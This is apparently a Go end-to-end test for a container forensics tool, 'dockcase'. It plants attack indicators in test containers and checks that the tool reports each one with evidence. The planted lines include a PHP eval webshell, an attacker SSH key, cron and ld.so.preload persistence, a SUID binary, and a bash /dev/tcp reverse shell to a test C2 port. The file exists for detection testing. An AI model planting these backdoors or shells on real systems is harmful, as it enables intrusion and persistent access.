package collect_test

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dockcase/dockcase/analyze/layer"
	"github.com/dockcase/dockcase/analyze/timeline"
	"github.com/dockcase/dockcase/analyze/triage"
	"github.com/dockcase/dockcase/collect/e2etest"
	"github.com/docker/docker/api/types/container"
)

// findE2EDoc is the part of `dockcase findings --json` the test reads.
type findE2EDoc struct {
	Version  string           `json:"version"`
	Findings []triage.Finding `json:"findings"`
	Files    []layer.Layer    `json:"files"`
}

// TestFindingsE2E plants the indicators in real containers, collects
// the host with the planted container's image, and checks that dockcase
// findings names each with its evidence, that a clean container yields
// nothing above low, and that the timeline is valid Timesketch JSONL in
// time order.
func TestFindingsE2E(t *testing.T) {
	if os.Geteuid() != 0 {
		if os.Getenv("CI") == "true" {
			t.Fatal("findings e2e needs root")
		}
		t.Skip("findings e2e needs root (collect, docker)")
	}
	e2etest.RequireDocker(t)
	sc := e2etest.NewScenario(t, e2etest.ScenarioOptions{})
	c2 := sc.C2Addr.String()
	const dropped = "/tmp/.x/kworker"
	const keyLine = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDockcaseTestKeyNotARealKeyAtAll0000000 attacker@evil"
	plantedName := "dce-planted-" + sc.ID
	const (
		webshell = "/var/www/html/up.php"
		cronFile = "/etc/cron.d/kworker"
		preload  = "/etc/ld.so.preload"
		suid     = "/usr/local/bin/sudo-helper"
	)
	planted := sc.StartContainer(t, "planted", e2etest.ContainerSpec{Cmd: []string{"/workload", "-name", plantedName,
		"-drop", dropped, "-write", "/root/.ssh/authorized_keys=" + keyLine,
		"-write", webshell + "=<?php eval(base64_decode($_POST['c'])); ?>",
		"-write", cronFile + "=* * * * * root " + dropped,
		"-write", preload + "=/tmp/.x/libhook.so",
		"-drop", suid, "-chmod", suid + "=4755",
		"bash", "-i", ">&", "/dev/tcp/" + c2 + "/4444", "0>&1"}})
	priv := sc.StartContainer(t, "priv", e2etest.ContainerSpec{Adjust: func(cfg *container.Config, hc *container.HostConfig) {
		hc.CapAdd = []string{"SYS_ADMIN", "SYS_PTRACE"}
		hc.PidMode = "host"
		hc.Binds = []string{"/var/run/docker.sock:/var/run/docker.sock"}
	}})
	clean := sc.StartContainer(t, "clean", e2etest.ContainerSpec{})

	// The hash list holds the workload binary's hash, read from the running
	// process, not from the bundle: the dropped copy must match it.
	exe, err := os.ReadFile(fmt.Sprintf("/proc/%d/exe", planted.Pid))
	if err != nil {
		t.Fatalf("read the workload binary: %v", err)
	}
	sum := sha256.Sum256(exe)
	binHash := hex.EncodeToString(sum[:])
	dir := t.TempDir()
	hashFile := filepath.Join(dir, "bad-sha256.txt")
	if err := os.WriteFile(hashFile, []byte("# known bad\n"+strings.Repeat("0", 64)+"  other\n"+binHash+"  kworker\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	out := filepath.Join(dir, "case.tar.zst")
	t.Cleanup(func() { removeCaseImages(t, sc, "ir-findings") })
	code, stderr := run(t, "collect", "--case", "IR-FINDINGS", "--capture", "0", "--containers", planted.Name, "--events-since", "1h", "--out", out)
	if code != 0 && code != 3 {
		t.Fatalf("collect: exit %d\n%s", code, stderr)
	}
	b := openBundle(t, out)
	manifestSHA := func(member string) string {
		m, ok := b.Manifest.Member(member)
		if !ok {
			t.Errorf("evidence member %q is not in the manifest", member)
		}
		return m.SHA256
	}

	stdout, code, stderr := findE2ERun(t, "findings", out, "--json", "--hash-file", hashFile)
	if code != 5 && code != 3 { // no trust anchor: 5, or 3 for a partial collection
		t.Fatalf("findings: exit %d\n%s", code, stderr)
	}
	var doc findE2EDoc
	if err := json.Unmarshal(stdout, &doc); err != nil {
		t.Fatalf("findings --json: %v\n%s", err, stdout)
	}
	byContainer := map[string][]triage.Finding{}
	for _, f := range doc.Findings {
		byContainer[f.Container] = append(byContainer[f.Container], f)
		for _, e := range f.Evidence {
			if e.Member != "" && e.Member != "(internal)" && e.SHA256 != manifestSHA(e.Member) {
				t.Errorf("finding %s %q cites %s with sha256 %q, the manifest says %q", f.ID, f.Title, e.Member, e.SHA256, manifestSHA(e.Member))
			}
		}
		if f.ID == "internal-rule-panic" {
			t.Errorf("a rule panicked on the real bundle: %s\n%s", f.Title, f.Evidence[0].Text)
		}
	}
	for _, c := range []e2etest.Container{planted, priv, clean} {
		var got []string
		for _, f := range byContainer[c.ID] {
			got = append(got, f.Severity+" "+f.ID)
		}
		t.Logf("%s: %d findings: %s", c.Name, len(got), strings.Join(got, ", "))
	}
	find := func(c e2etest.Container, id string, match func(triage.Finding) bool) *triage.Finding {
		t.Helper()
		for _, f := range byContainer[c.ID] {
			if f.ID == id && (match == nil || match(f)) {
				return &f
			}
		}
		var got []string
		for _, f := range byContainer[c.ID] {
			got = append(got, f.ID+" "+f.Title)
		}
		t.Errorf("container %s: no %s finding that matches; it has:\n  %s", c.Name, id, strings.Join(got, "\n  "))
		return nil
	}
	hasPointer := func(f triage.Finding, member, pointer string) bool {
		for _, e := range f.Evidence {
			if e.Member == member && e.Pointer == pointer {
				return true
			}
		}
		return false
	}

	// The planted container.
	find(planted, "reverse-shell-process", func(f triage.Finding) bool {
		return len(f.Evidence) > 0 && f.Evidence[0].Member == "host/processes.json" && strings.HasPrefix(f.Evidence[0].Pointer, "/") &&
			strings.Contains(f.Evidence[0].Text, "/dev/tcp/"+c2+"/4444") && f.Severity == triage.SeverityCritical
	})
	isImage := func(f triage.Finding) bool {
		return len(f.Evidence) > 0 && strings.HasPrefix(f.Evidence[0].Member, "images/") && strings.HasSuffix(f.Evidence[0].Member, ".tar")
	}
	if f := find(planted, "executable-in-tmp", func(f triage.Finding) bool { return f.File != nil && f.File.Path == dropped }); f != nil {
		if !isImage(*f) || f.File.SHA256 != binHash || f.File.Size != int64(len(exe)) || !strings.Contains(f.File.ModeText, "0755") || f.File.ModTime.IsZero() {
			t.Errorf("executable-in-tmp: file %+v, evidence %+v; want %s, %d bytes, mode 0755, sha256 %s, from the saved image", f.File, f.Evidence, dropped, len(exe), binHash)
		}
	}
	find(planted, "known-bad-hash", func(f triage.Finding) bool {
		return f.File != nil && f.File.Path == dropped && f.File.SHA256 == binHash && isImage(f) && f.Severity == triage.SeverityCritical
	})
	find(planted, "authorized-keys-changed", func(f triage.Finding) bool {
		return f.File != nil && f.File.Path == "/root/.ssh/authorized_keys" && isImage(f) && strings.Contains(f.Evidence[0].Text, "ssh-ed25519 attacker@evil")
	})
	// Persistence and tampering planted in the container's filesystem, read
	// from the committed image's top layer.
	for _, want := range []struct{ id, path string }{
		{"webshell", webshell}, {"cron-persistence", cronFile}, {"ld-so-preload", preload}, {"suid-sgid-added", suid},
	} {
		find(planted, want.id, func(f triage.Finding) bool { return f.File != nil && f.File.Path == want.path && isImage(f) })
	}
	// Every added file of the top layer is listed with its facts.
	var listed bool
	for _, l := range doc.Files {
		for _, f := range l.Files {
			if l.Container == planted.ID && f.Path == dropped && f.SHA256 == binHash {
				listed = true
			}
		}
	}
	if !listed {
		t.Errorf("the files section does not list %s with its hash", dropped)
	}

	// The broad-privilege container.
	insp := "docker/containers/" + priv.ID + "/inspect.json"
	for _, cp := range []string{"SYS_ADMIN", "SYS_PTRACE"} {
		find(priv, "dangerous-capability", func(f triage.Finding) bool {
			return strings.Contains(f.Title, cp) && len(f.Evidence) > 0 && f.Evidence[0].Member == insp && strings.HasPrefix(f.Evidence[0].Pointer, "/HostConfig/CapAdd/")
		})
	}
	find(priv, "host-pid-namespace", func(f triage.Finding) bool { return hasPointer(f, insp, "/HostConfig/PidMode") })
	find(priv, "docker-socket-mounted", func(f triage.Finding) bool {
		return f.Severity == triage.SeverityCritical && len(f.Evidence) > 0 && f.Evidence[0].Member == insp && strings.Contains(f.Evidence[0].Text, "docker.sock")
	})

	// The clean container: nothing above low.
	for _, f := range byContainer[clean.ID] {
		if triage.SeverityRank(f.Severity) > triage.SeverityRank(triage.SeverityLow) {
			t.Errorf("clean container %s: %s finding %s %q (false positive)", clean.Name, f.Severity, f.ID, f.Title)
		}
	}

	// --min-severity drops the low ones.
	stdout, code, _ = findE2ERun(t, "findings", out, "--json", "--min-severity", "medium")
	var filtered findE2EDoc
	if err := json.Unmarshal(stdout, &filtered); (code != 5 && code != 3) || err != nil {
		t.Fatalf("findings --min-severity medium: exit %d, %v", code, err)
	}
	for _, f := range filtered.Findings {
		if triage.SeverityRank(f.Severity) < triage.SeverityRank(triage.SeverityMedium) && f.ID != "internal-rule-panic" {
			t.Errorf("--min-severity medium kept %s finding %s", f.Severity, f.ID)
		}
	}
	if len(filtered.Findings) == 0 || len(filtered.Findings) >= len(doc.Findings) {
		t.Errorf("--min-severity medium kept %d of %d findings", len(filtered.Findings), len(doc.Findings))
	}

	findE2ETimeline(t, out, planted, dropped)
}

// findE2ETimeline checks the Timesketch export: every line valid JSON with
// message, datetime and timestamp_desc, in time order, holding the planted
// container's start and the dropped file's modification.
func findE2ETimeline(t *testing.T, out string, planted e2etest.Container, dropped string) {
	jsonl := filepath.Join(t.TempDir(), "timeline.jsonl")
	csvOut := filepath.Join(filepath.Dir(jsonl), "timeline.csv")
	if _, code, stderr := findE2ERun(t, "timeline", out, "--timesketch", jsonl, "--csv", csvOut); code != 5 && code != 3 {
		t.Fatalf("timeline: exit %d\n%s", code, stderr)
	}
	f, err := os.Open(jsonl)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 0, 64<<10), 4<<20)
	var last time.Time
	n := 0
	var sawStart, sawFile, sawStep bool
	for sc.Scan() {
		n++
		var rec map[string]any
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("timeline line %d is not JSON: %v: %s", n, err, sc.Bytes())
		}
		msg, _ := rec["message"].(string)
		desc, _ := rec["timestamp_desc"].(string)
		dt, _ := rec["datetime"].(string)
		at, err := time.Parse(time.RFC3339Nano, dt)
		if msg == "" || desc == "" || err != nil {
			t.Fatalf("timeline line %d lacks message/timestamp_desc or has a bad datetime %q (%v): %s", n, dt, err, sc.Bytes())
		}
		if at.Before(last) {
			t.Errorf("timeline line %d at %s is before the previous line's %s", n, at, last)
		}
		last = at
		switch {
		case rec["container_id"] == planted.ID && desc == timeline.ContainerStarted:
			sawStart = true
		case rec["container_id"] == planted.ID && desc == timeline.FileModified && rec["path"] == dropped:
			// The finding about the file tags its event.
			tags, _ := rec["tag"].([]any)
			for _, tg := range tags {
				if tg == "executable-in-tmp" {
					sawFile = true
				}
			}
			if !sawFile {
				t.Errorf("the timeline event of %s is not tagged executable-in-tmp: %s", dropped, sc.Bytes())
			}
		case desc == timeline.CollectionStep:
			sawStep = true
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if !sawStart || !sawFile || !sawStep {
		t.Errorf("timeline (%d lines): planted container start %v, %s modified %v, collection steps %v; want all", n, sawStart, dropped, sawFile, sawStep)
	}
	data, err := os.ReadFile(csvOut)
	if err != nil {
		t.Fatal(err)
	}
	if lines := bytes.Count(data, []byte("\n")); lines < n+1 {
		t.Errorf("timeline CSV has %d lines, want at least %d (header + events)", lines, n+1)
	}
}

// findE2ERun runs the dockcase binary and returns stdout, the exit code and
// stderr.
func findE2ERun(t *testing.T, args ...string) ([]byte, int, string) {
	t.Helper()
	cmd := exec.Command(dockcaseBinary(t), args...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return stdout.Bytes(), code, stderr.String()
}
